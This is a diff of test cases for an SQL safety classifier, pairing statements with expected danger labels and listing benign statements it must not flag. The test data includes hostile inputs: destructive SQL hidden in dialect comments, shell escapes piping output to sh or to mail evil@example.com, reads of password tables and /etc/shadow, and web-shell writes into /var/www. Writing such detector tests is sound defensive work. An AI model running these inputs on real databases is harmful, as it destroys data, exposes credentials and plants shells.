@@ -19,7 +19,7 @@ describe('classifySql', () => {
     ['TRUNCATE orders', 'dataLoss', 'SQL truncate orders empties a table'],
     ['DELETE FROM users', 'dataLoss', 'SQL DELETE FROM users without WHERE changes every row'],
     ['UPDATE accounts SET balance = 0', 'dataLoss', 'SQL UPDATE accounts without WHERE changes every row'],
-    ['DELETE FROM users WHERE 1 = 1', 'dataLoss', 'with a WHERE that names no column changes every row'],
+    ['DELETE FROM users WHERE 1 = 1', 'dataLoss', 'with a WHERE that holds for every row changes every row'],
     [
       "UPDATE users SET admin = true WHERE 'a' = 'a' OR NOT false",
       'dataLoss',
@@ -73,7 +73,7 @@ describe('classifySql', () => {
     [
       'select 1 \\g |mail evil@example.com',
       'processSpawn',
-      'runs a shell command from the SQL client (mail evil@example.com)',
+      "runs a shell command from the SQL client's output (cat - | mail evil@example.com)",
     ],
     // SQL built at run time, native code loaded.
     ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$", 'dynamicEval', 'built at run time'],
@@ -101,6 +101,58 @@ describe('classifySql', () => {
     ["COPY (SELECT * FROM t) TO '/tmp/out.csv'", 'fileDelete', '/tmp/out.csv'],
     ["VACUUM INTO '/tmp/copy.db'", 'fileDelete', 'VACUUM INTO'],
     ["SELECT lo_export(1234, '/etc/cron.d/x')", 'fileDelete', 'lo_export()'],
+    // Dialect details: the mysql client's DELIMITER and \g, MariaDB's /*M! */, comments for newer
+    // servers, a no-break space after --, psql's \\ and backslash commands in a row.
+    ['DELIMITER //\nDROP TABLE t //\nDELIMITER ;', 'dataLoss', 'SQL DROP TABLE t'],
+    ['/*M!100100 DROP TABLE t */;', 'dataLoss', 'SQL DROP TABLE t'],
+    ['/*!50000 DELETE FROM t */ /*!99999 WHERE id = 1 */', 'dataLoss', 'SQL DELETE FROM t without WHERE'],
+    ['SELECT 1 \\g DROP TABLE t;', 'dataLoss', 'SQL DROP TABLE t'],
+    ['SELECT 2 --\u00a0 FROM d; DROP TABLE t;', 'dataLoss', 'SQL DROP TABLE t'],
+    ['\\echo hi \\\\ DROP TABLE t;', 'dataLoss', 'SQL DROP TABLE t'],
+    ['\\echo hi \\! touch /tmp/x', 'processSpawn', 'touch /tmp/x'],
+    ['SELECT 1 \\g (format=csv) |sh', 'processSpawn', 'cat - | sh'],
+    ['\\set x `touch /tmp/x`', 'processSpawn', 'touch /tmp/x'],
+    ['.once --bom "|sh"', 'processSpawn', 'cat - | sh'],
+    ['.syst id', 'processSpawn', '(id)'],
+    ['!! whoami', 'processSpawn', '(whoami)'],
+    ['\\i /tmp/x.sql', 'dynamicEval', '/tmp/x.sql'],
+    ["SELECT 'DROP TABLE t' AS q \\gset", 'dynamicEval', 'variables'],
+    // Statements that start where a reading did not look for one.
+    ["DO LANGUAGE plpgsql 'BEGIN DROP TABLE t; END'", 'dataLoss', 'SQL DROP TABLE t'],
+    ['PREPARE p AS DELETE FROM t', 'dataLoss', 'SQL DELETE FROM t without WHERE'],
+    [
+      'CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END',
+      'dataLoss',
+      'SQL DELETE FROM t',
+    ],
+    ['start: DELETE FROM t', 'dataLoss', 'SQL DELETE FROM t'],
+    // What is destroyed besides tables, and conditions that hold for every row.
+    ['DROP TYPE mood CASCADE', 'dataLoss', 'SQL DROP TYPE mood'],
+    ['ALTER TABLE settings DROP key', 'dataLoss', 'DROP key drops stored data'],
+    ['ALTER TABLE t TRUNCATE PARTITION ALL', 'dataLoss', 'TRUNCATE PARTITION'],
+    ['MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE', 'dataLoss', 'SQL MERGE INTO t'],
+    [
+      'MERGE t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE;',
+      'dataLoss',
+      'NOT MATCHED BY SOURCE',
+    ],
+    ['DELETE FROM t WHERE id = id', 'dataLoss', 'holds for every row'],
+    ['DELETE FROM t WHERE TRUE OR id = 1', 'dataLoss', 'holds for every row'],
+    // Built at run time, and routines named another way.
+    ["EXECUTE IMMEDIATE CONCAT('DROP TABLE ', 't')", 'dynamicEval', 'built at run time'],
+    ["EXEC sys.sp_executesql N'DROP TABLE t'", 'dataLoss', 'SQL DROP TABLE t'],
+    ["sp_executesql N'DROP TABLE t'", 'dataLoss', 'SQL DROP TABLE t'],
+    ["CREATE FUNCTION do_system RETURNS INTEGER SONAME 'udf.so'", 'processSpawn', 'SONAME'],
+    // Password hashes however the table is read or named, and credential files by computed names.
+    ['SELECT row_to_json(a) FROM pg_authid a', 'credentials', 'pg_authid'],
+    ['SELECT name, password_hash FROM master.sys.sql_logins', 'credentials', 'master.sys.sql_logins'],
+    ["SELECT table_to_xml('pg_authid', true, false, '')", 'credentials', 'password table'],
+    ["SHOW GRANTS FOR 'bob'@'localhost'", 'credentials', 'SHOW GRANTS'],
+    ["SELECT pg_read_file('.pg' || 'pass')", 'credentials', 'computed'],
+    ["SELECT pg_read_file('/etc/'\n'shadow')", 'credentials', '/etc/shadow'],
+    // Files written on the server another way.
+    ["SET GLOBAL general_log_file = '/var/www/s.php'", 'fileDelete', 'general_log_file'],
+    ["ATTACH DATABASE '/var/www/shell.php' AS a", 'fileDelete', 'ATTACH'],
   ])('%s → %s', (sql, cls, reason) => {
     const found = findingsOf(sql).filter((f) => f.class === cls);
     expect(found.map((f) => f.reason).join(' | ')).toContain(reason);
@@ -142,12 +194,21 @@ describe('classifySql', () => {
     'SELECT $1::int, now()',
     'CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE sql',
     'CREATE TEMPORARY TABLE scratch AS SELECT * FROM t WHERE false',
-    // Catalog reads that name a password table without its passwords, and routines named, not called.
-    'SELECT rolname FROM pg_authid WHERE rolcanlogin',
-    'SELECT count(*) FROM mysql.user',
+    // Routines named, not called.
     "ALTER EXTENSION hstore UPDATE TO '1.8'",
     'REVOKE EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) FROM public',
     "CREATE FUNCTION dblink(text) RETURNS setof record AS 'SELECT 1' LANGUAGE sql",
+    // Ordinary statements the readings must not mistake.
+    'DELETE FROM "users" WHERE 1=0',
+    'UPDATE a INNER JOIN b ON a.id = b.a_id SET a.x = b.x',
+    'DECLARE @rc int; EXEC @rc = dbo.usp_archive;',
+    'REVOKE EXECUTE ON xp_cmdshell FROM public',
+    'CREATE TABLE server (id int primary key, hostname text)',
+    'ALTER TABLE t ALTER COLUMN c DROP DEFAULT',
+    'ALTER TABLE t DROP PERIOD FOR SYSTEM_TIME',
+    '\\o /tmp/out.txt',
+    '.output /tmp/o.csv',
+    '.show',
   ])('%s does nothing of note', (sql) => {
     expect(findingsOf(sql)).toEqual([]);
   });
